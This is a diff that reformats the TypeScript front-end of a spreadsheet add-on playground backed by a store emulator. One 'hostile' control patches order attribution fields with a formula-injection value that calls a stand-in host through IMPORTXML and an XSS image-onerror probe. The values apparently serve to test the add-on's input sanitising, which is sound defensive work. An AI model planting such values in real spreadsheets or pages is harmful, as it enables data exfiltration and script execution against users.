@@ -40,12 +40,18 @@ async function getJson<T>(path: string): Promise<T> {
 }
 
 async function post(path: string, body: unknown): Promise<Reply & Record<string, unknown>> {
-  const response = await fetch(path, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(body) });
+  const response = await fetch(path, {
+    method: 'POST',
+    headers: { 'Content-Type': 'application/json' },
+    body: JSON.stringify(body),
+  });
   return (await response.json()) as Reply & Record<string, unknown>;
 }
 
 async function fetchRows(sheet: string, from: number, count: number): Promise<Array<Array<GridCell | null>>> {
-  const window = await getJson<{ rows: Array<Array<GridCell | null>> }>(`/playground/cells?sheet=${encodeURIComponent(sheet)}&from=${from}&count=${count}`);
+  const window = await getJson<{ rows: Array<Array<GridCell | null>> }>(
+    `/playground/cells?sheet=${encodeURIComponent(sheet)}&from=${from}&count=${count}`,
+  );
   return window.rows;
 }
 
@@ -92,7 +98,13 @@ formulaInput.addEventListener('keydown', (event) => {
 byId('grid').addEventListener('keydown', (event) => {
   const at = grid.selection;
   if (!at || event.ctrlKey || event.metaKey || event.altKey) return;
-  const moves: Record<string, [number, number]> = { ArrowUp: [-1, 0], ArrowDown: [1, 0], ArrowLeft: [0, -1], ArrowRight: [0, 1], Tab: [0, 1] };
+  const moves: Record<string, [number, number]> = {
+    ArrowUp: [-1, 0],
+    ArrowDown: [1, 0],
+    ArrowLeft: [0, -1],
+    ArrowRight: [0, 1],
+    Tab: [0, 1],
+  };
   const move = moves[event.key];
   if (move) {
     event.preventDefault();
@@ -116,19 +128,21 @@ byId('grid').addEventListener('keydown', (event) => {
 
 function renderTabs(sheets: GridSheet[], selected: string): void {
   byId('tabs').replaceChildren(
-    ...sheets.filter((s) => !s.hidden).map((sheet) => {
-      const tab = document.createElement('button');
-      tab.type = 'button';
-      tab.setAttribute('role', 'tab');
-      tab.setAttribute('aria-selected', String(sheet.name === selected));
-      tab.textContent = sheet.name;
-      tab.title = `${sheet.name}: ${Math.max(0, sheet.lastRow - 1).toLocaleString('en-US')} rows below the header`;
-      tab.addEventListener('click', () => {
-        chosen = sheet.name;
-        void refreshSheets(false);
-      });
-      return tab;
-    }),
+    ...sheets
+      .filter((s) => !s.hidden)
+      .map((sheet) => {
+        const tab = document.createElement('button');
+        tab.type = 'button';
+        tab.setAttribute('role', 'tab');
+        tab.setAttribute('aria-selected', String(sheet.name === selected));
+        tab.textContent = sheet.name;
+        tab.title = `${sheet.name}: ${Math.max(0, sheet.lastRow - 1).toLocaleString('en-US')} rows below the header`;
+        tab.addEventListener('click', () => {
+          chosen = sheet.name;
+          void refreshSheets(false);
+        });
+        return tab;
+      }),
   );
 }
 
@@ -145,7 +159,10 @@ async function renderSyncLog(sheets: GridSheet[]): Promise<void> {
     return;
   }
   const first = Math.max(2, log.lastRow - LOG_ROWS + 1);
-  const [header, rows] = await Promise.all([fetchRows(SYNC_LOG, 1, 1), fetchRows(SYNC_LOG, first, log.lastRow - first + 1)]);
+  const [header, rows] = await Promise.all([
+    fetchRows(SYNC_LOG, 1, 1),
+    fetchRows(SYNC_LOG, first, log.lastRow - first + 1),
+  ]);
   const line = (cells: Array<GridCell | null>, tag: 'th' | 'td'): HTMLTableRowElement => {
     const tr = document.createElement('tr');
     for (let c = 0; c < log.columnCount; c++) {
@@ -160,7 +177,12 @@ async function renderSyncLog(sheets: GridSheet[]): Promise<void> {
   const head = document.createElement('thead');
   head.append(line(header[0] ?? [], 'th'));
   const body = document.createElement('tbody');
-  body.append(...rows.slice().reverse().map((r) => line(r, 'td')));
+  body.append(
+    ...rows
+      .slice()
+      .reverse()
+      .map((r) => line(r, 'td')),
+  );
   table.replaceChildren(head, body);
 }
 
@@ -174,7 +196,9 @@ async function renderSheetCharts(sheet: GridSheet | undefined, changed: boolean)
   }
   if (!changed && chartsShown === sheet.name) return;
   chartsShown = sheet.name;
-  const { charts } = await getJson<{ charts: ChartViewData[] }>(`/playground/charts?sheet=${encodeURIComponent(sheet.name)}`);
+  const { charts } = await getJson<{ charts: ChartViewData[] }>(
+    `/playground/charts?sheet=${encodeURIComponent(sheet.name)}`,
+  );
   renderCharts(host, charts, grid.offsetOf.bind(grid));
 }
 
@@ -197,7 +221,8 @@ function refreshSheets(data: boolean): Promise<void> {
     try {
       await refreshOnce(data);
     } catch (error) {
-      byId('sheet-info').textContent = `Could not read the workbook: ${error instanceof Error ? error.message : String(error)}`;
+      byId('sheet-info').textContent =
+        `Could not read the workbook: ${error instanceof Error ? error.message : String(error)}`;
     } finally {
       refreshing = null;
       if (again) {
@@ -234,7 +259,8 @@ async function refreshOnce(data: boolean): Promise<void> {
     grid.scrollToRow(before + 1, { from: before + 1, to: selected.lastRow });
   }
   const dataRows = Math.max(0, selected.lastRow - selected.frozenRows);
-  byId('sheet-info').textContent = `${selected.name}: ${dataRows.toLocaleString('en-US')} ${selected.frozenRows ? 'data ' : ''}rows` +
+  byId('sheet-info').textContent =
+    `${selected.name}: ${dataRows.toLocaleString('en-US')} ${selected.frozenRows ? 'data ' : ''}rows` +
     `${selected.frozenRows ? `, ${selected.frozenRows} frozen` : ''}. Times in ${view.timeZone} (the spreadsheet's time zone).`;
   await Promise.all([renderSyncLog(view.sheets), renderSheetCharts(selected, data || !sameSheet)]);
   const orderId = byId<HTMLInputElement>('order-id');
@@ -266,11 +292,19 @@ function controlRequest(kind: string): { path: string; body?: unknown } {
     case 'orders':
       return { path: '/_emulator/orders', body: { count: numberOf('order-count') } };
     case 'change':
-      return { path: `/_emulator/orders/${orderId}/change`, body: { kind: byId<HTMLSelectElement>('change-kind').value } };
+      return {
+        path: `/_emulator/orders/${orderId}/change`,
+        body: { kind: byId<HTMLSelectElement>('change-kind').value },
+      };
     case 'hostile':
       return {
         path: `/_emulator/orders/${orderId}/patch`,
-        body: { attribution: { utm_campaign: '=IMPORTXML("http://evil.example/","//a")', utm_source: '<img src=x onerror=alert(1)>' } },
+        body: {
+          attribution: {
+            utm_campaign: '=IMPORTXML("http://evil.example/","//a")',
+            utm_source: '<img src=x onerror=alert(1)>',
+          },
+        },
       };
     case 'vanish':
       return { path: `/_emulator/orders/${orderId}/vanish` };
@@ -285,11 +319,22 @@ function controlRequest(kind: string): { path: string; body?: unknown } {
     case 'clear-faults':
       return { path: '/_emulator/faults/clear' };
     default:
-      return { path: '/_emulator/faults', body: { status: Number(byId<HTMLSelectElement>('fault-status').value), count: numberOf('fault-count'), path_prefix: '/api/v1/' } };
+      return {
+        path: '/_emulator/faults',
+        body: {
+          status: Number(byId<HTMLSelectElement>('fault-status').value),
+          count: numberOf('fault-count'),
+          path_prefix: '/api/v1/',
+        },
+      };
   }
 }
 
-async function withResult(label: string, action: () => Promise<Reply>, words: (value: unknown) => string): Promise<void> {
+async function withResult(
+  label: string,
+  action: () => Promise<Reply>,
+  words: (value: unknown) => string,
+): Promise<void> {
   const result = byId('control-result');
   const buttons = document.querySelectorAll<HTMLButtonElement>('#controls button');
   buttons.forEach((b) => (b.disabled = true));
@@ -315,21 +360,33 @@ document.querySelectorAll<HTMLButtonElement>('[data-control]').forEach((button) 
       faultStatus: byId<HTMLSelectElement>('fault-status').value,
     };
     // The clock moves both clocks (the add-on's and the store's) through the playground, not the emulator alone.
-    const action = kind === 'clock' ? () => post('/playground/clock', { seconds: clockSeconds().seconds }) : () => post('/playground/control', controlRequest(kind));
+    const action =
+      kind === 'clock'
+        ? () => post('/playground/clock', { seconds: clockSeconds().seconds })
+        : () => post('/playground/control', controlRequest(kind));
     void withResult(button.textContent ?? 'Control', action, (value) => describeControl(kind, value, context));
   });
 });
-byId('fire-trigger').addEventListener('click', () => void withResult('Scheduled trigger', () => post('/playground/trigger', {}), describeScheduledRun));
+byId('fire-trigger').addEventListener(
+  'click',
+  () => void withResult('Scheduled trigger', () => post('/playground/trigger', {}), describeScheduledRun),
+);
 byId('open-report').addEventListener('click', () => {
   byId('control-result').textContent = 'Report: adding the example formulas and running them…';
   void post('/playground/report', {}).then(async (reply) => {
-    byId('control-result').textContent = reply.ok ? 'Report: click a cell to see its formula, or type your own (start with =).' : `Report failed: ${reply.error.message}`;
+    byId('control-result').textContent = reply.ok
+      ? 'Report: click a cell to see its formula, or type your own (start with =).'
+      : `Report failed: ${reply.error.message}`;
     chosen = 'Report';
     await refreshSheets(true);
   });
 });
 byId('refresh-formulas').addEventListener('click', () => {
-  void withResult('Refresh formulas', () => post('/playground/run', { name: 'refreshFormulasFromMenu', args: [] }), () => 'Every cell using a Merchant Analytics function recalculates.');
+  void withResult(
+    'Refresh formulas',
+    () => post('/playground/run', { name: 'refreshFormulasFromMenu', args: [] }),
+    () => 'Every cell using a Merchant Analytics function recalculates.',
+  );
 });
 byId('goto-form').addEventListener('submit', (event) => {
   event.preventDefault();
@@ -355,7 +412,8 @@ byId('delete-row').addEventListener('click', () => {
 });
 byId('insert-column').addEventListener('click', () => {
   const at = grid.selection;
-  if (at) void gridEdit(`Insert 1 column left of ${columnLetters(at.column)}`, { edit: 'insert-column', column: at.column });
+  if (at)
+    void gridEdit(`Insert 1 column left of ${columnLetters(at.column)}`, { edit: 'insert-column', column: at.column });
   else byId('control-result').textContent = 'Insert column: click a cell of the column first.';
 });
 byId('rename-form').addEventListener('submit', (event) => {
